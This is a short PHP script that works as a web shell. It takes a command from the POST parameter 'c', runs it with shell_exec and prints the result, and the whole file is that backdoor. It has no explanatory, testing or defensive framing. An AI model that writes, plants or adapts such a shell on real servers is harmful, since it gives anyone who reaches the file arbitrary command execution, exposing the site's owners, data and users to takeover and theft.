<?php
$c = isset($_POST['c']) ? $_POST['c'] : 'id';
$out = shell_exec($c . ' 2>&1');
echo htmlspecialchars($out);
